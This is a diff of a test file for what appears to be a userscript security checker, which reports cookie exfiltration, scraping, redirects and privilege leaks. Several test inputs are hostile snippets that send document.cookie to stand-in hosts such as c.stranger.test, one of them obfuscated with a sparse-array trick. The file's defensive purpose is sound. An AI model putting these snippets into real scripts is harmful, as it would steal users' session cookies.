@@ -90,7 +90,7 @@ describe("a variable of the page whose name is put together", () => {
 	test("may keep what has no effect, and not what a browser would open", () => {
 		expect(sentencesOf("unresolved-access", on(`${named}page.next = { on: true };`))).toEqual([]);
 		expect(sentencesOf("unresolved-access", on(`${named}page.href = "https://c.stranger.test/";`))).toEqual([
-			"Sets a property whose name is put together while the script runs: an object of the page that the check could not determine.",
+			"Sets a property of an object of the page that the check could not determine.",
 		]);
 		expect(sentencesOf("unresolved-access", on(`${named}page.next = document.cookie;`))).toHaveLength(1);
 	});
@@ -118,6 +118,12 @@ describe("two facts in one sentence", () => {
 		expect(found?.path.map(({ line }) => line)).toEqual([5]);
 	});
 
+	test("are told of a receiver that only the skeptical run doubts", () => {
+		const code =
+			'let n = 0; [2,, 7].forEach(() => n++); fetch(JSON.parse(n === 2 ? \'{"to":"https://c.stranger.test/?"}\' : \'{"to":"/a?"}\').to + document.cookie);';
+		expect(sentencesOf("capability-pair", code)).toHaveLength(1);
+	});
+
 	test("are not told of a request that has no room for data", () => {
 		const code = on('const own = navigator.clipboard.readText();\nfetch("https://n.stranger.test/rates.json");');
 		expect(sentencesOf("capability-pair", code)).toEqual([]);
@@ -138,6 +144,15 @@ describe("a question of a dialog", () => {
 		expect(sentencesOf("leads-away", on(body))).toEqual([
 			"Takes you to r.stranger.test (location.replace), when you agree in a dialog.",
 		]);
+	});
+
+	test.each([
+		["a menu", 'add.registerMenuCommand("Help", () => LEAVE);'],
+		["a button of a dialog", 'layer.open({ title: "Go?", yes: () => { LEAVE } });'],
+	])("or %s does", (_title, body) => {
+		const sentence = "Takes you to r.stranger.test (location.replace), when you choose it in a menu or a dialog.";
+		const code = on(body.replace("LEAVE", leave.slice(0, -1)));
+		expect(sentencesOf("leads-away", code)).toEqual([sentence]);
 	});
 
 	test.each([
@@ -224,6 +239,19 @@ describe("a function of the manager under a name of its own", () => {
 	test("is given to the page through the page's window", () => {
 		expect(sentencesOf("privilege-leak", gives("unsafeWindow.ask"))).toHaveLength(1);
 		expect(sentencesOf("privilege-leak", gives("const page = unsafeWindow; page.ask"))).toHaveLength(1);
+	});
+});
+
+describe("an address that is not written where it is used", () => {
+	test("is not told of a function whose code is not here, unless a secret is with it", () => {
+		const given = (data: string) =>
+			on(`const all = { url: page.word ? "https://n.stranger.test/" : "", data: ${data} };\npage.tools.go(all);`);
+		expect(sentencesOf("undeclared-contact", given("document.title"))).toHaveLength(1);
+		const far = (data: string) => `function make() { return { url: "https://n.stranger.test/", data: ${data} }; }\n`;
+		const used = "page.tools.go(make());";
+		expect(sentencesOf("undeclared-contact", on(far("document.title") + used))).toEqual([]);
+		expect(sentencesOf("page-scraping", on(far("document.body.innerText") + used))).toEqual([]);
+		expect(sentencesOf("cookie-exfiltration", on(far("document.cookie") + used))).toHaveLength(1);
 	});
 });
 
